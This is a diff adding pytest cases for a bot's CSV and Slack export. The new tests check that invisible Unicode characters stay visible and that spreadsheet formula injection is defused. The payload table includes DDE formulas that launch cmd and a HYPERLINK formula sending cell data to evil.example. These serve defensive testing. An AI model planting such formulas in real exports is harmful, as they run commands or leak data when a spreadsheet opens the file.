@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from bot.answers.export import to_csv, to_json
 from bot.table import Column, Table
+from bot.table import text as cell
 from bot.text import literal, only_shows
 from handlers.blockkit import blocks
 
@@ -85,6 +86,54 @@ def test_all_that_acts_hides_or_looks_like_a_space_is_shown_by_its_number() -> N
     assert len(set(shown.values())) == len(INVISIBLE), "and no two of them look the same"
 
 
+UNSEEN: Final = {
+    "soft hyphen": "\u00ad",
+    "Mongolian vowel separator": "\u180e",
+    "tag": "\U000e0041",
+    "zero width space": "\u200b",
+    "zero width joiner": "\u200d",
+    "word joiner": "\u2060",
+    "byte order mark": "\ufeff",
+    "left-to-right mark": "\u200e",
+    "Arabic letter mark": "\u061c",
+    "override": "\u202e",
+    "isolate": "\u2066",
+    "Hangul filler": "\u3164",
+    "Hangul filler of half width": "\uffa0",
+    "combining grapheme joiner": "\u034f",
+    "variation selector": "\ufe0f",
+    "variation selector supplement": "\U000e0100",
+    "Khmer inherent vowel": "\u17b4",
+    "Braille blank": "\u2800",
+    "null notehead": "\U0001d159",
+    "shorthand format": "\U0001bca0",
+    "NUL": "\x00",
+    "escape": "\x1b",
+    "delete": "\x7f",
+    "half a pair": "\udc41",
+    "private use": "\ue000",
+    "unassigned": "\U000e0fff",
+}
+"""What the eye does not see, or not everywhere."""
+
+
+@pytest.mark.parametrize("what", UNSEEN)
+def test_two_clients_that_differ_by_what_nobody_sees_look_different(what: str) -> None:
+    plain = "Boto/2.49.0 Python/2.7"
+    worn = [f"{plain[:at]}{UNSEEN[what]}{plain[at:]}" for at in (0, 4, len(plain))]
+
+    def seen(text: str) -> str:
+        return text.replace(UNSEEN[what], "")
+
+    for other in worn:
+        assert seen(other) == plain
+        assert seen(cell(other)) != cell(plain)
+        assert seen(csv_of(other)) != csv_of(plain)
+        assert seen(blocks.fallback(other)) != blocks.fallback(plain)
+        assert seen(blocks.text(other)["text"]) != blocks.text(plain)["text"]
+    assert len({cell(other) for other in worn}) == len(worn)
+
+
 def test_what_only_shows_is_shown_as_it_is() -> None:
     for text in ("Boto3/1.28 é 你好 العربية 🙂 ⚠️", "arn:aws:iam::111122223333:user/a\\b", "— …"):
         assert literal(text) == text
@@ -123,6 +172,49 @@ def test_no_sign_of_any_alphabet_begins_a_formula_wherever_a_line_is_split(befor
 
     assert [cell for cell in cells_of(file) if runs(cell)] == []
     assert len(SIGNS) >= 19
+
+
+RUNS: Final = {
+    "behind a semicolon": "x;=cmd|'/C calc'!A0;y",
+    "an equals sign": "=1+1",
+    "a plus": "+1+1",
+    "a minus": "-1+1",
+    "an at sign": "@SUM(A1)",
+    "a program, by DDE": '=DDE("cmd";"/C calc";"x")',
+    "a link that carries cells away": '=HYPERLINK("http://evil.example/?"&A1,"AWS")',
+    "in full width": "＝1+1",
+    "a plus in full width": "＋1+1",
+    "an at sign in full width": "＠SUM(A1)",
+    "in small form": "\ufe661+1",
+    "raised": "\u207c1+1",
+    "the minus sign": "−1+1",
+    "Hebrew's plus": "\ufb291+1",
+    "behind a no-break space": "\u00a0=1+1",
+    "behind a soft hyphen": "\u00ad=1+1",
+    "behind an ideographic space": "\u3000=1+1",
+    "behind a byte order mark": "\ufeff=1+1",
+    "behind blanks": "   =1+1",
+    "behind a tab": "x\t=1+1",
+    "behind a line end": "x\n=1+1",
+    "behind a line separator": "x\u2028=1+1",
+    "behind a pipe": "x|=1+1",
+    "behind a comma and blanks": "x,  =1+1",
+    "behind a quote that closes": 'x";=1+1;"y',
+    "within quotes of its own": 'x;"=1+1"',
+}
+"""Cells that some spreadsheet runs, as the file would hold them without a defence."""
+
+
+@pytest.mark.parametrize("how", RUNS)
+def test_a_cell_that_was_written_to_run_does_not(how: str) -> None:
+    bare = io.StringIO()
+    csv.writer(bare, lineterminator="\n").writerow([RUNS[how], 1])
+    assert [cell for cell in cells_of(bare.getvalue()) if runs(cell)], "it would"
+
+    file = csv_of(RUNS[how]).partition("\n")[2]
+
+    assert [cell for cell in cells_of(file) if runs(cell)] == []
+    assert file.count("\n") == 1
 
 
 @given(st.lists(strange, min_size=1, max_size=5))
